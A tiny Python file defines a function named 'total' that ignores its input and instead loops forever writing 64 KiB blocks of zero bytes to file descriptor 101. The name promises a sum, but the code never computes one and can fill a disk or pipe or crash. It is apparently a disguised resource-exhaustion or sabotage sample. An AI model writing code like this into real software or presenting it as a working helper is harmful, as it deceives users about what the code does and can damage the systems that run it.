import os


def total(values):
    while True:
        os.write(101, b"\0" * 65_536)
